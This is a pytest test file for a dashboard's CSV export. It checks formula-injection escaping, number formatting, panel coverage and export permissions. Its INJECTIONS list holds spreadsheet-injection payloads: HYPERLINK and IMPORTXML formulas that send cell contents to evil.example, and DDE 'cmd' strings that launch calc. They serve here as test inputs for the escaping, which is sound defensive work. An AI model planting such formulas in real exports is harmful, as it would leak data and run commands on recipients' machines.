"""CSV exports: formula injection escaped (only in text: numbers stay numbers), a BOM for Excel,
the view from the URL, every panel, and who may export — on real chDB."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from dashboard.csv_export import csv_chunks, escape_cell
from footfall.server import create_app
from pipelines.events import events_batch
from pipelines.members import Role, grant
from pipelines.migrate import migrate
from pipelines.queries import PANELS
from pipelines.sites import Site, save_site
from pipelines.store.base import Store
from pipelines.store.embedded import EmbeddedStore
from pipelines.users import save_user
from tests.dashboard.test_pages import EMAIL, PASSWORD, SAME_ORIGIN, make_settings

SITE = "shop.example"
JANUARY = "period=custom&from=2026-01-01&to=2026-01-31"
DAY = datetime(2026, 1, 10, 3, tzinfo=UTC)
# OWASP's CSV injection examples and friends: each starts with a character a spreadsheet reads as a formula.
INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
)
HARMLESS = ("Hà Nội", "北京", "a=b", " =1+1", "1-2", "", "https://example.com/?q=-1")


@pytest.mark.parametrize("payload", INJECTIONS)
def test_formulas_get_a_leading_quote(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert escape_cell(text) == text


def test_numbers_stay_numbers() -> None:
    rows = [{"label": "-1", "count": -5, "share": -0.25, "zero": 0, "none": None, "flag": True}]
    text = "".join(csv_chunks(rows))
    assert text.startswith("\ufeff")
    lines = text.removeprefix("\ufeff").split("\r\n")
    assert lines[0] == '"label","count","share","zero","none","flag"'
    assert lines[1] == "\"'-1\",-5,-0.25,0,\"\",1"  # numbers unquoted and unescaped; text quoted


def test_nested_comparison_points_become_columns() -> None:
    rows = [{"bucket": "2026-01-01", "visitors": 2, "previous": {"bucket": "2025-12-01", "visitors": 3}},
            {"bucket": "2026-01-02", "visitors": 1, "previous": None}]
    reader = csv.DictReader(io.StringIO("".join(csv_chunks(rows)).removeprefix("\ufeff")))
    assert reader.fieldnames == ["bucket", "visitors", "previous_bucket", "previous_visitors", "previous"]
    assert [row["previous_visitors"] for row in reader] == ["3", ""]


def hostile_event(n: int, text: str, when: datetime = DAY) -> dict[str, Any]:
    return {"site_id": SITE, "timestamp": when, "event_id": str(uuid.uuid4()), "event_type": "pageview",
            "event_name": "pageview", "visitor_id": n, "session_id": n, "hostname": SITE, "path": f"/{n}",
            "referrer_source": text, "referrer_medium": "search", "search_term": text, "utm_campaign": text,
            "city": text, "country": "VN", "region": "Hà Nội", "browser": "北京浏览器"}


@pytest.fixture(scope="module")
def shared(chdb_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Store]]:
    """One filled store and app for the module: a fresh one per test costs seconds."""
    store = EmbeddedStore(chdb_dir, f"t_{uuid.uuid4().hex[:12]}")
    migrate(store)
    save_site(store, Site(SITE, timezone="Asia/Ho_Chi_Minh"))
    events = [hostile_event(n, text) for n, text in enumerate(INJECTIONS + HARMLESS, start=1)]
    # December: more visitors than January, so January's change is negative.
    events += [hostile_event(100 + n, "dec", DAY - timedelta(days=31)) for n in range(40)]
    store.insert("events", events_batch(events))
    app = create_app(make_settings(tmp_path_factory.mktemp("exports")), store=store)
    with TestClient(app, follow_redirects=False) as test_client:
        yield test_client, store
    store.command(f"DROP DATABASE IF EXISTS {store.database}")
    store.close()


@pytest.fixture
def store(shared: tuple[TestClient, Store]) -> Store:
    return shared[1]


@pytest.fixture
def client(shared: tuple[TestClient, Store]) -> TestClient:
    test_client = shared[0]
    test_client.cookies.clear()
    assert test_client.post("/login", data={"email": EMAIL, "password": PASSWORD},
                            headers=SAME_ORIGIN).status_code == 303
    return test_client


def rows_of(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(("panel", "column"), [("keywords", "keyword"), ("campaigns", "campaign"),
                                               ("cities", "city"), ("sources", "source")])
def test_visitor_text_is_escaped_in_exports(client: TestClient, panel: str, column: str) -> None:
    response = client.get(f"/s/{SITE}/export/{panel}.csv?{JANUARY}")
    assert response.status_code == 200, response.text
    values = {row[column] for row in rows_of(response.content)}
    assert {"'" + payload for payload in INJECTIONS} <= values
    assert {"Hà Nội", "北京", " =1+1"} <= values
    assert not [value for value in values if value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_export_headers_and_filename(client: TestClient) -> None:
    response = client.get(f"/s/{SITE}/export/pages.csv?{JANUARY}&country=VN")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="shop.example-pages-2026-01-01-2026-01-31.csv"')
    assert response.headers["cache-control"] == "no-store"
    assert len(rows_of(response.content)) == len(INJECTIONS + HARMLESS)
    assert rows_of(client.get(f"/s/{SITE}/export/pages.csv?{JANUARY}&country=FR").content) == []


def test_negative_numbers_are_not_mangled(client: TestClient) -> None:
    body = client.get(f"/s/{SITE}/export/stats.csv?{JANUARY}&compare=previous").content
    visitors = next(row for row in rows_of(body) if row["metric"] == "visitors")
    assert visitors["value"] == str(len(INJECTIONS + HARMLESS))
    assert float(visitors["change"]) < 0
    assert b",-0." in body  # written as a bare negative number, not quoted or escaped


def test_every_panel_exports(client: TestClient) -> None:
    for name, panel in PANELS.items():
        page = "&page=/1" if panel.needs_page else ""
        response = client.get(f"/s/{SITE}/export/{name}.csv?{JANUARY}{page}")
        assert response.status_code == 200, (name, response.text)
        assert response.content.startswith(b"\xef\xbb\xbf"), name


@pytest.mark.parametrize(("path", "status"), [
    (f"/s/{SITE}/export/nope.csv", 404),
    (f"/s/{SITE}/export/heatmap_grid.csv", 400),  # needs a page
    (f"/s/{SITE}/export/pages.csv?period=custom&from=2026-02-01", 400),
    (f"/s/{SITE}/export/pages.csv?date=9999-12-31", 400),
    (f"/s/{SITE}/export/timeseries.csv?period=all&interval=hour", 400),
    ("/s/unknown.example/export/pages.csv", 404),
])
def test_bad_exports_are_refused(client: TestClient, path: str, status: int) -> None:
    assert client.get(path).status_code == status


def test_viewers_export_their_sites_only(client: TestClient, store: Store) -> None:
    user = save_user(store, "viewer@example.com", "viewer-password-1")
    grant(store, SITE, user.user_id, Role.VIEWER)
    save_site(store, Site("other.example"))
    client.cookies.clear()
    assert client.get(f"/s/{SITE}/export/pages.csv").status_code == 302  # to the sign-in page
    client.post("/login", data={"email": "viewer@example.com", "password": "viewer-password-1"}, headers=SAME_ORIGIN)
    assert client.get(f"/s/{SITE}/export/pages.csv").status_code == 200
    assert client.get("/s/other.example/export/pages.csv").status_code == 404
